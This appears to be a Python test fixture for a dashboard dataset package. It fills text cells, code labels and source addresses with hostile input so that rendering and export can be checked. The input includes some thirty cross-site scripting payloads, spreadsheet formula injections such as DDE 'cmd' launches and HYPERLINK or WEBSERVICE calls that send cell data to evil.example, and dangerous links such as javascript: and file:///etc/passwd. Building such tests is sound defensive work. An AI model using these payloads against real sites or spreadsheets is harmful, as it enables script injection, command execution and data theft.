"""Data whose every word is out to hurt.

Scripts for browsers, formulas for spreadsheets, links that are none.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from dataclasses import replace
from typing import Any

import pandas as pd

from dashboard.dataset.contract import Contract, Field, Table
from dashboard.dataset.dataset import Dataset
from dashboard.dataset.required_columns import TABLES

HIT = "window.hurt=1"
"""What a script would do that runs; an element that markup would make carries `data-hurt`."""

SCRIPTS = (
    f"<script data-hurt>{HIT}</script>",
    f"</script><script data-hurt>{HIT}</script>",
    f"</title><script data-hurt>{HIT}</script>",
    f"</style><script data-hurt>{HIT}</script>",
    f"</textarea></template><script data-hurt>{HIT}</script>",
    f"--><script data-hurt>{HIT}</script><!--",
    f"<img data-hurt src=x onerror={HIT}>",
    f'"><img data-hurt src=x onerror="{HIT}">',
    f"'><img data-hurt src=x onerror='{HIT}'>",
    f"<svg data-hurt onload={HIT}>",
    f"<svg data-hurt><script>{HIT}</script></svg>",
    f"<svg data-hurt><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<body data-hurt onload={HIT}>",
    f"<details data-hurt open ontoggle={HIT}>",
    f"<input data-hurt autofocus onfocus={HIT}>",
    f"<video data-hurt><source onerror={HIT}></video>",
    f'<iframe data-hurt srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f'<iframe data-hurt src="javascript:parent.{HIT}"></iframe>',
    '<img data-hurt src="https://evil.example/a.png">',
    '<link data-hurt rel="stylesheet" href="https://evil.example/a.css">',
    "<style data-hurt>@import 'https://evil.example/b.css'; body{display:none}</style>",
    '<script data-hurt src="https://evil.example/a.js"></script>',
    f'<a data-hurt href="javascript:{HIT}">x</a>',
    f'<a data-hurt href="data:text/html,<script>{HIT}</script>">x</a>',
    '<a data-hurt href="https://evil.example/" target="_top">x</a>',
    '<meta data-hurt http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base data-hurt href="https://evil.example/">',
    f'<form data-hurt action="https://evil.example/"><button formaction="javascript:{HIT}" autofocus>x</button></form>',
    f"{{{{constructor.constructor('{HIT}')()}}}} ${{{HIT}}} {{% raw %}} %(x)s {{0}}",
    f"&lt;img data-hurt src=x onerror={HIT}&gt; \\u003cscript data-hurt\\u003e{HIT}\\u003c/script\\u003e [x](javascript:{HIT})",  # noqa: E501
)
"""Thirty ways by which text has become a script, an element or a request elsewhere."""

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "%0A=1+1",
    '"=1+1";=2+2,=3+3',
)
"""Twenty ways by which text has become a formula."""

LINKS = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f" javascript:{HIT}",
    f"java\tscript:{HIT}",
    f"\x01javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    "file:///etc/passwd",
    "//evil.example/",
    f"javascript://evil.example/%0a{HIT}",
)
"""Addresses of sources that lead nowhere good."""


def hostile(dataset: Dataset, words: Sequence[str], *, first: bool = False) -> Dataset:
    """Return the package with hostile text in every text cell and code name.

    Each column holds all the words: row by row, several in a cell where the rows are fewer.

    Args:
        dataset: the package.
        words: what is put into it.
        first: put them before the text that was there, not behind.
    """

    def spoil(cells: pd.Series) -> pd.Series:
        count = -(-len(words) // max(1, len(cells)))
        texts = [" ".join(words[(row * count + n) % len(words)] for n in range(count)) for row in range(len(cells))]
        addition = pd.Series(texts, index=cells.index, dtype=cells.dtype)
        return (addition + " " + cells) if first else (cells + " " + addition)

    tables: dict[str, Any] = {
        name: dataset.table(name).assign(
            **{column: spoil(dataset.table(name)[column]) for column in text_columns(dataset.contract.tables[name])}
        )
        for name in TABLES
    }
    return replace(dataset, **tables, contract=_spoiled_contract(dataset.contract, words, first))


def with_links(dataset: Dataset) -> Dataset:
    """Return the package whose sources have addresses that lead nowhere good."""
    count = len(dataset.sources)
    urls = [LINKS[number % len(LINKS)] for number in range(count)]
    return replace(dataset, sources=dataset.sources.assign(url=urls))


def text_columns(table: Table) -> list[str]:
    """Return the columns that hold words: text that is no id, code, date or address."""
    ids = {*table.key, *(reference.column for reference in table.references)}
    return [field.name for field in table.fields if _is_text(field) and field.name not in ids]


def _is_text(field: Field) -> bool:
    codes = field.codes or field.labels or field.pattern
    return field.type == "string" and field.format == "default" and not codes


def _spoiled_contract(contract: Contract, words: Sequence[str], first: bool) -> Contract:
    """Return the contract with hostile words in the names of its codes, in every language."""
    following = iter(range(1_000_000))

    def spoil(label: str) -> str:
        word = words[next(following) % len(words)]
        return f"{word} {label}" if first else f"{label} {word}"

    return replace(contract, tables={name: _spoiled_table(table, spoil) for name, table in contract.tables.items()})


def _spoiled_table(table: Table, spoil: Callable[[str], str]) -> Table:
    def labels(names: Mapping[str, str]) -> dict[str, str]:
        return {code: spoil(label) for code, label in names.items()}

    return replace(
        table,
        fields=tuple(
            replace(
                field,
                labels=labels(field.labels),
                translations={language: labels(names) for language, names in field.translations.items()},
            )
            for field in table.fields
        ),
    )
